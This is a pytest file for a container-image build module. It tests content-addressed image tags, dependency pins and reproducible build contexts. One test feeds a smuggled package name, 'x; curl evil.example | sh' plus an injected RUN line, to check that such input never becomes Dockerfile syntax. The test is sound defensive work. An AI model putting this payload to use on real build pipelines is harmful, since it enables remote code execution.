"""Recipes: the name of an image is its content, and the pins fit what the code imports."""

from __future__ import annotations

import ast
import io
import re
import sys
import tarfile
import tomllib
from dataclasses import replace

import pytest

from runner import recipes
from runner.recipes import BuildFile, Recipe

CA = b"-----BEGIN CERTIFICATE-----\n"
OURS = {"interpreter", "runner", "images"}
DISTRIBUTION = {
    "bs4": "beautifulsoup4",
    "jsonschema_rs": "jsonschema-rs",
    "jwt": "pyjwt",
    "pydantic_settings": "pydantic-settings",
    "quickjs": "quickjs-ng",
    "tree_sitter": "tree-sitter",
    "yaml": "pyyaml",
}


def pinned(group: str) -> set[str]:
    return {re.split("==", line)[0] for line in recipes.pins()[group]["python"]}


def imported(*folders: str) -> set[str]:
    """Distributions that the Python files under these folders import, anywhere in them."""
    found = set()
    for folder in folders:
        for path in sorted((recipes.PROJECT / folder).rglob("*.py")):
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Import):
                    found |= {alias.name.split(".")[0] for alias in node.names}
                elif isinstance(node, ast.ImportFrom) and not node.level:
                    found.add((node.module or "").split(".")[0])
    outside = found - OURS - set(sys.stdlib_module_names)
    return {DISTRIBUTION.get(name, name) for name in outside}


def test_the_sidecar_image_has_every_package_that_its_code_imports() -> None:
    # A module's js bodies, definitions of source code, HTML pages: guards and the gate run and load nothing of that.
    optional = {"beautifulsoup4", "markdownify", "quickjs-ng", "tree-sitter"}
    assert imported("interpreter", "images/sidecar") - optional <= pinned("sidecar")


def test_the_module_image_has_every_dependency_of_the_project() -> None:
    project = tomllib.loads((recipes.PROJECT / "pyproject.toml").read_text())["project"]
    needed = {re.split(r"[\[<>=!~; ]", line)[0].lower() for line in project["dependencies"]}
    assert needed <= pinned("module")


@pytest.mark.parametrize("make", [recipes.agent, recipes.server, recipes.module, recipes.sidecar])
def test_the_trust_of_the_host_is_part_of_the_name(make: object) -> None:
    assert callable(make)
    assert make(ca=CA).tag == make(ca=CA).tag
    assert make(ca=CA).tag != make(ca=CA + b"another").tag


def test_every_part_of_a_recipe_is_part_of_its_name() -> None:
    plain = Recipe(name="x", parent=recipes.compiler())
    file = BuildFile(path="/a", content=b"1")
    others = [
        replace(plain, name="y"),
        replace(plain, parent=recipes.root("python", ca=b"")),
        replace(plain, files=(file,)),
        replace(plain, files=(replace(file, content=b"2"),)),
        replace(plain, files=(replace(file, mode=0o755),)),
        replace(plain, files=(replace(file, path="/b"),)),
        replace(plain, steps=("ENV A=1",)),
        replace(plain, from_scratch="/a"),
        replace(plain, debian=("jq",)),
    ]
    assert len({recipe.tag.partition(":")[2] for recipe in (plain, *others)}) == len(others) + 1


def test_a_change_below_is_a_change_above() -> None:
    assert recipes.agent(ca=CA, debian=["sqlite3"]).tag != recipes.agent(ca=CA).tag
    assert recipes.agent(ca=CA, debian=["git"]).tag == recipes.agent(ca=CA).tag, "git is there already"


def test_changing_a_later_step_does_not_fetch_the_packages_again() -> None:
    one = recipes.root("tools", ca=CA)
    assert recipes.unpacked_tag(one) == recipes.unpacked_tag(replace(one, steps=("ENV A=1",)))
    assert recipes.unpacked_tag(one) != recipes.unpacked_tag(recipes.root("tools", ca=CA, more=["sqlite3"]))


def dockerfile(recipe: Recipe, **options: object) -> list[str]:
    with tarfile.open(fileobj=io.BytesIO(recipes.context(recipe, start="BASE", **options))) as tar:
        found = tar.extractfile("Dockerfile")
        assert found is not None
        return found.read().decode().splitlines()


def test_packages_are_arguments_and_never_syntax() -> None:
    evil = "x; curl evil.example | sh\nRUN evil"
    lines = dockerfile(recipes.with_packages(recipes.server(ca=CA), npm=[evil], pypi=[evil]))
    assert not [line for line in lines if line.startswith("RUN evil")]
    runs = [line for line in lines if line.startswith("RUN ")]
    assert all(line.startswith("RUN [") for line in runs)
    assert any("--ignore-scripts" in line for line in runs)
    assert any("--only-binary=:all:" in line for line in runs)


def test_the_pulled_base_gets_the_packages_that_the_unpacked_one_has() -> None:
    recipe = recipes.root("tools", ca=CA)
    lines = dockerfile(recipe, install=recipe.debian)
    assert lines[0] == "FROM BASE"
    installed = next(line for line in lines if "apt-get install" in line)
    assert all(f" {package} " in installed for package in recipe.debian)


def test_contexts_are_the_same_bytes_every_time() -> None:
    recipe = recipes.sidecar(ca=CA)
    assert recipes.context(recipe, start="BASE") == recipes.context(recipe, start="BASE")


@pytest.mark.parametrize(("command", "package"), [("rg", "ripgrep"), ("python", "python3"), ("cowsay", "cowsay")])
def test_commands_find_their_debian_package(command: str, package: str) -> None:
    assert recipes.debian_package(command) == package
